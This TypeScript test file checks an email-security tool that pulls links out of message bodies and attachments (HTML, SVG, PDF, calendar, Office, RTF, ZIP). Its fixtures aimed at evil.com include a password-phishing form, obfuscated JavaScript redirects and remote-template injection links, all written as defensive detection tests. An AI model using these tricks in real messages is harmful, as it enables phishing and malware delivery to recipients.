import { zipOf } from '@postern/testkit/containers.ts'
import fc from 'fast-check'
import { deflateSync } from 'node:zlib'
import { describe, expect, it } from 'vitest'
import { readContents, type ContentsReading } from '../container/read.ts'
import { parseMessage } from '../parse.ts'
import type { LinkFact } from './link.ts'
import { readLinks } from './read-links.ts'

interface Attached {
  readonly name: string
  readonly type: string
  readonly content: Buffer | string
}

function message(body: string, type: string, files: readonly Attached[]): Buffer {
  const part = (head: string, content: Buffer | string): string =>
    `--b\r\n${head}\r\nContent-Transfer-Encoding: base64\r\n\r\n${Buffer.from(content).toString('base64')}\r\n`
  const parts = files.map(({ name, type, content }) =>
    part(`Content-Type: ${type}\r\nContent-Disposition: attachment; filename="${name}"`, content),
  )
  return Buffer.from(
    `From: a@a.example\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=b\r\n\r\n${part(`Content-Type: ${type}; charset=utf-8`, body)}${parts.join('')}--b--\r\n`,
  )
}

function read(
  body: string,
  { type = 'text/plain', files = [] }: { type?: string; files?: readonly Attached[] } = {},
): { links: readonly LinkFact[]; contents: ContentsReading } {
  const facts = parseMessage(message(body, type, files))
  const contents = readContents(facts, () => null)
  return { links: readLinks(facts, contents.gathered), contents }
}

const seen = (links: readonly LinkFact[]) =>
  links.map(({ source, host, role = '' }) => `${source} ${host} ${role}`.trim())
const html = (body: string) => seen(read(body, { type: 'text/html' }).links)
const attached = (name: string, type: string, content: Buffer | string) =>
  seen(read('Hello', { files: [{ name, type, content }] }).links)

describe('links of the bodies', () => {
  it('says where each finally leads', () => {
    const [link] = read('https://www.google.com/url?q=https%3A%2F%2Fwww.evil.com%2Fx').links
    expect(link).toMatchObject({
      host: 'www.google.com',
      hops: 1,
      target: { host: 'www.evil.com', domain: 'evil.com' },
    })
  })

  it.each([
    ['invisible characters', 'go to evil\u200b-login.com/x now', ['text-split evil-login.com']],
    [
      'East Asian stops',
      'https://www.good.example。次は https://b.example、',
      ['text www.good.example', 'text b.example'],
    ],
    ['none of them', 'see www.good.com\u200b,next or 昨日。今日', ['text www.good.com']],
  ])('text: %s', (_name, text, expected) => {
    expect(seen(read(text).links)).toEqual(expected)
  })

  it.each([
    [`<a href="javascript:location.href='https://evil.com/'">x</a>`, 'html-script evil.com'],
    ['<td onclick="window.open(\'https://evil.com\')">x</td>', 'html-script evil.com'],
    [
      `<a href="data:text/html;base64,${Buffer.from('<form action=https://evil.com>').toString('base64')}">x</a>`,
      'html-script evil.com form',
    ],
    ['<svg><a xlink:href="https://evil.com/"><text>x</text></a></svg>', 'html-script evil.com'],
    ['<v:roundrect href="https://evil.com/">x</v:roundrect>', 'html-script evil.com'],
    ['<meta http-equiv=refresh content="0;url=https://evil.com/">', 'html-href evil.com'],
    ['<map><area href="https://evil.com"></map>', 'html-href evil.com'],
  ])('HTML: %s', (body, expected) => {
    expect(html(body)).toContain(expected)
  })

  it('calendar: folded lines are joined', () => {
    const ics =
      'BEGIN:VCALENDAR\r\nBEGIN:VEVENT\r\nDESCRIPTION:Join https://ev\r\n il.com/a\\, or\\nhttps://b.com\r\nURL:https://c.com/\r\nEND:VEVENT\r\n'
    expect(
      seen(read(ics, { type: 'text/calendar' }).links).filter((link) => link.startsWith('calendar')),
    ).toEqual(['calendar evil.com', 'calendar b.com', 'calendar c.com'])
    expect(attached('invite.ics', 'application/octet-stream', ics)).toEqual([
      'calendar evil.com',
      'calendar b.com',
      'calendar c.com',
    ])
  })
})

describe('links of attachments', () => {
  const page = (body: string) => attached('page.html', 'text/html', `<html><body>${body}</body></html>`)

  it.each([
    ['<form action="https://evil.com/p.php"><input type=password></form>', 'html-file evil.com form'],
    ['<script>window.location.href = "https://evil.com/";</script>', 'html-file evil.com redirect'],
    [
      `<script>location=atob("${Buffer.from('https://evil.com/').toString('base64')}")</script>`,
      'html-file evil.com redirect',
    ],
    ['<script>var u="https://ev"+"il.com/"; location.replace(u)</script>', 'html-file evil.com redirect'],
    [
      '<script>document.write(unescape("%3Cform%20action%3D%22https%3A%2F%2Fevil.com%22%3E"))</script>',
      'html-file evil.com form',
    ],
    [
      `<script>location.href=String.fromCharCode(${Array.from('https://evil.com/', (c) => c.charCodeAt(0)).join(',')})</script>`,
      'html-file evil.com redirect',
    ],
    [
      `<script>location.href="${Array.from('https://evil.com/', (c) => `\\x${c.charCodeAt(0).toString(16)}`).join('')}"</script>`,
      'html-file evil.com redirect',
    ],
    ['<meta http-equiv="refresh" content="0; url=https://evil.com/">', 'html-file evil.com redirect'],
    ['<iframe src="https://evil.com/"></iframe>', 'html-file evil.com object'],
    ['<a href="https://evil.com/">x</a>', 'html-file evil.com'],
  ])('page: %s', (body, expected) => {
    expect(page(body)).toContain(expected)
  })

  it('SVG runs scripts too', () => {
    expect(
      attached(
        'logo.svg',
        'image/svg+xml',
        '<svg xmlns="x"><script>location.href="https://evil.com"</script></svg>',
      ),
    ).toContain('html-file evil.com redirect')
  })

  it.each([
    [
      'plain',
      `%PDF-1.4\n1 0 obj\n<</Type/Annot/Subtype/Link/Rect[0 0 300 200]/A<</S/URI/URI(https://evil.com/\\(x\\))>>>>\nendobj\n`,
    ],
    [
      'hexadecimal',
      `%PDF-1.4\n1 0 obj\n<</S/URI/URI <${Buffer.from('https://evil.com/').toString('hex')}>>>\nendobj\n`,
    ],
    ['octal', '%PDF-1.4\n1 0 obj\n<</S/URI/URI (\\150ttps://evil.com/)>>\nendobj\n'],
  ])('PDF: %s', (_name, content) => {
    expect(attached('bill.pdf', 'application/pdf', content)).toEqual(['pdf evil.com'])
  })

  it('PDF: in compressed object streams', () => {
    const packed = deflateSync('1 0 <</S/URI/URI(https://evil.com/)>>')
    const pdf = Buffer.concat([
      Buffer.from(
        `%PDF-1.5\n2 0 obj\n<</Type/ObjStm/N 1/First 4/Filter/FlateDecode/Length ${packed.length}>>\nstream\n`,
      ),
      packed,
      Buffer.from('\nendstream\nendobj\n'),
    ])
    expect(attached('bill.pdf', 'application/pdf', pdf)).toEqual(['pdf evil.com'])
  })

  it('Office: what lies outside of the document', () => {
    const relation = (type: string, target: string, mode = 'External'): string =>
      `<Relationship Id="r" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" Target="${target}" TargetMode="${mode}"/>`
    const rels = `<?xml version="1.0"?><Relationships>${relation('hyperlink', 'https://good.com/?a=1&amp;b=2')}${relation('attachedTemplate', 'https://evil.com/a.dotm')}${relation('oleObject', 'mhtml:https://bad.com/x!x-usc:https://bad.com/x')}${relation('image', 'https://pic.com/a.png')}${relation('styles', 'styles.xml', 'Internal')}${relation('hyperlink', 'mailto:a@b.com')}</Relationships>`
    const docx = zipOf([
      { name: '[Content_Types].xml', content: Buffer.from('<Types/>') },
      { name: 'word/document.xml', content: Buffer.from('<w:document/>') },
      { name: 'word/_rels/document.xml.rels', content: Buffer.from(rels) },
    ])
    expect(attached('a.docx', 'application/octet-stream', docx)).toEqual([
      'office good.com',
      'office evil.com template',
      'office bad.com object',
      'office pic.com picture',
    ])
  })

  it('within an archive', () => {
    const zip = zipOf([
      { name: 'a/page.html', content: Buffer.from('<html><a href="https://evil.com">x</a></html>') },
    ])
    const { links } = read('', { files: [{ name: 'a.zip', type: 'application/zip', content: zip }] })
    expect(links).toMatchObject([{ source: 'html-file', host: 'evil.com', file: 'a.zip/a/page.html' }])
  })

  it('RTF', () => {
    const rtf =
      '{\\rtf1{\\field{\\*\\fldinst HYPERLINK "https://good.com/"}}{\\*\\template https://evil.com/a.dotm}}'
    expect(attached('a.doc', 'application/msword', rtf)).toEqual([
      'office good.com',
      'office evil.com template',
    ])
  })

  it('never throws, whatever the bytes', () => {
    const starts = [
      '%PDF-1.4\n/URI(',
      '<html><script>',
      'BEGIN:VCALENDAR\r\nURL:',
      '{\\rtf1 HYPERLINK "',
      '<svg>',
    ]
    fc.assert(
      fc.property(
        fc.constantFrom(...starts),
        fc.string({ unit: 'binary', maxLength: 200 }),
        (start, rest) => {
          read(rest, {
            type: 'text/html',
            files: [{ name: 'f', type: 'application/octet-stream', content: start + rest }],
          })
        },
      ),
      { numRuns: 200 },
    )
  })
})
